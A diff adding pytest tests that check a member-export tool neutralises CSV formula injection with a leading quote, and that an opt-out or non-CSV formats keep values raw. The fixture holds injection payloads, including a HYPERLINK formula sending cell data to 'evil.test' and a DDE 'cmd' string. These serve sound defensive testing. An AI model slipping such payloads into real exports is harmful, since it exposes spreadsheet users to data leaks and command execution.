@@ -408,3 +408,100 @@ def test_writer_arguments_are_checked(tmp_path: Path) -> None:
     with pytest.raises(ValueError, match="column"):
         open_writer("csv", tmp_path / "x", ())
     assert leftovers(tmp_path) == []
+
+
+# -- spreadsheet formulas (CSV injection) --------------------------------------------------
+
+EVIL_EMAIL = "evil@example.test"
+#: Member fields a spreadsheet would run as formulas if written raw.
+EVIL = {
+    "name": '=HYPERLINK("http://evil.test/?"&A1,"Click")',
+    "company": "+cmd|' /C calc'!A0",
+    "department": "@SUM(1+1)",
+    "country": "-2+3",
+    "external_id": "\t=1+1",
+}
+
+
+async def evil_member_export(tmp_path: Path, format: ExportFormat, **options: Any) -> Any:
+    """Export the members of an academy holding one formula-named member; return its record."""
+    out = tmp_path / f"members.{format}"
+    async with serving(members=3) as (academy, client):
+        academy.state.add_member(
+            EVIL_EMAIL,
+            name=EVIL["name"],
+            company=EVIL["company"],
+            department=EVIL["department"],
+            country=EVIL["country"],
+            external_id=EVIL["external_id"],
+        )
+        await export_members(client, out, format=format, **options)
+    (record,) = [r for r in read_back(out, format, "members") if r["email"] == EVIL_EMAIL]
+    return record
+
+
+async def test_csv_export_neutralises_formulas_by_default(tmp_path: Path) -> None:
+    """A CSV export writes formula-looking member fields with a leading quote, inert in sheets."""
+    record = await evil_member_export(tmp_path, "csv")
+    assert {k: record[k] for k in EVIL} == {k: "'" + v for k, v in EVIL.items()}
+    assert int(record["id"]) > 0
+
+
+async def test_csv_export_opt_out_writes_formulas_raw(tmp_path: Path) -> None:
+    """formula_guard=False writes formula-looking member fields exactly as stored."""
+    record = await evil_member_export(tmp_path, "csv", formula_guard=False)
+    assert {k: record[k] for k in EVIL} == EVIL
+
+
+@pytest.mark.parametrize("format", ["jsonl", "sqlite"])
+async def test_data_formats_keep_formulas_raw(format: ExportFormat, tmp_path: Path) -> None:
+    """JSONL and SQLite exports are data, not sheets: formula-looking values stay raw."""
+    record = await evil_member_export(tmp_path, format)
+    assert {k: record[k] for k in EVIL} == EVIL
+
+
+@pytest.mark.parametrize("formula_guard", [True, False])
+async def test_results_csv_export_follows_formula_guard(
+    formula_guard: bool, tmp_path: Path
+) -> None:
+    """A results CSV export guards a formula-named course by default and not when opted out."""
+    out = tmp_path / "results.csv"
+    async with serving(members=2) as (academy, client):
+        course = academy.state.add_course("=1+1")
+        academy.state.enrol(course.id, academy.state.members()[0].id)
+        await export_results(
+            client, out, format="csv", course_ids=[course.id], formula_guard=formula_guard
+        )
+    (record,) = read_back(out, "csv", "results")
+    assert record["course_name"] == ("'=1+1" if formula_guard else "=1+1")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_writer_guards_every_formula_start(start: str, tmp_path: Path) -> None:
+    """Text starting with = + - @, tab or CR gets a leading quote; numbers in the row do not."""
+    path = tmp_path / "out.csv"
+    with open_writer("csv", path, COLUMNS) as writer:
+        writer.write({"id": -7, "note": f"{start}1+1", "score": -1.5, "ok": True})
+    (record,) = read_back(path, "csv", "things")
+    assert record == {"id": "-7", "note": f"'{start}1+1", "score": "-1.5", "ok": "true", "at": ""}
+
+
+def test_csv_writer_leaves_ordinary_values_alone(tmp_path: Path) -> None:
+    """Ordinary text (a '+' inside an email, names, signed plain numbers) and numbers are as is."""
+    notes = [
+        "ann+hr@example.test",
+        "Ann O'Brien",
+        "R&D - Paris = HQ",
+        "-42",
+        "+33612345678",
+        "-0.5",
+        "",
+    ]
+    path = tmp_path / "out.csv"
+    with open_writer("csv", path, COLUMNS) as writer:
+        for n, note in enumerate(notes):
+            writer.write({"id": -n, "note": note, "score": -n / 4, "ok": False})
+    records = read_back(path, "csv", "things")
+    assert [r["note"] for r in records] == notes
+    assert [r["id"] for r in records] == [str(-n) for n in range(len(notes))]
+    assert [r["score"] for r in records] == [str(-n / 4) for n in range(len(notes))]
